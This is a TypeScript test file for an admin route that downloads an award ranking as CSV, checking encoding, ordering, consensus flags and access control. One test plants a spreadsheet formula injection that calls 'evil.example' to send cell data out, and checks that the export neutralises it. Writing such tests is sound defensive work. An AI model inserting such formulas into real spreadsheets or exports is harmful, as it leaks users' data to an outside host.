import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import * as csv from '~/routes/admin.ranking[.]csv'
import { recordConsensus } from '../../workflows/review/review.server'
import { decideLevel, fullSheet, inDocumentReview, submitSheet, world } from '../integration/helpers'
import { args, get, respond } from './http'

describe('ranking download', () => {
  it('gives the secretariat the ranking as CSV with a byte-order mark, ranked by combined score', async () => {
    const w = await world() // the newest cycle
    const first = await inDocumentReview(w, w.applicant)
    const second = await inDocumentReview(w, w.otherApplicant)
    for (const reviewer of w.reviewers.slice(0, 3)) {
      await submitSheet(w, first.id, reviewer, 55)
      await submitSheet(w, second.id, reviewer, 75)
    }
    await decideLevel(w, second.id, 'gold', '')
    const response = await respond(async () => csv.loader(args(await get('/admin/ranking.csv', w.admin.userId))))
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    const bytes = new Uint8Array(await response.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const rows = parse(new TextDecoder().decode(bytes)) as string[][]
    expect(rows[0]).toEqual([
      '奖项领域',
      '名次',
      '申报单位',
      '综合得分（算术平均）',
      '4.7',
      '4.1',
      '评分情况',
      '状态',
      '审定',
      '共识',
      '审定理由',
    ])
    expect(rows.slice(1).map((r) => [r[0], r[1], r[2], r[3], r[8]])).toEqual([
      ['经济', '1', '乙公司', '750.00', '金奖'],
      ['经济', '2', '甲公司', '550.00', ''],
    ])
  })

  it('writes a name that a spreadsheet would run as a formula as plain text', async () => {
    const w = await world()
    const app = await inDocumentReview(w, w.applicant)
    for (const reviewer of w.reviewers.slice(0, 3)) await submitSheet(w, app.id, reviewer, 60)
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    await w.db
      .updateTable('organisations')
      .set({ name: hostile })
      .where('id', '=', w.applicant.organisationId!)
      .execute()
    const response = await respond(async () => csv.loader(args(await get('/admin/ranking.csv', w.admin.userId))))
    const rows = parse((await response.text()).replace(/^\uFEFF/, '')) as string[][]
    const row = rows.find((r) => r[2]!.includes('HYPERLINK'))!
    expect(row[2]).toBe(`'${hostile}`)
    expect(row[3]).toBe('600.00')
  })

  it('flags a consensus recorded where the reviewers were within the threshold', async () => {
    const w = await world()
    const app = await inDocumentReview(w, w.applicant)
    for (const reviewer of w.reviewers.slice(0, 3)) await submitSheet(w, app.id, reviewer, 60)
    await recordConsensus(w.db, {
      applicationId: app.id,
      actor: w.admin,
      scores: fullSheet(w, 80).scores,
      note: '复核',
      agreedBy: w.reviewers.slice(0, 3).map((r) => r.userId),
      outsideThresholdReason: '复核后上调',
    })
    const response = await respond(async () => csv.loader(args(await get('/admin/ranking.csv', w.admin.userId))))
    const rows = parse((await response.text()).replace(/^\uFEFF/, '')) as string[][]
    expect(rows.find((r) => r[2] === '甲公司')?.[9]).toBe('阈值内共识')
  })

  it('is for the secretariat only', async () => {
    const w = await world()
    const response = await respond(async () =>
      csv.loader(args(await get('/admin/ranking.csv', w.reviewers[0]!.userId))),
    )
    expect(response.status).toBe(403)
  })
})
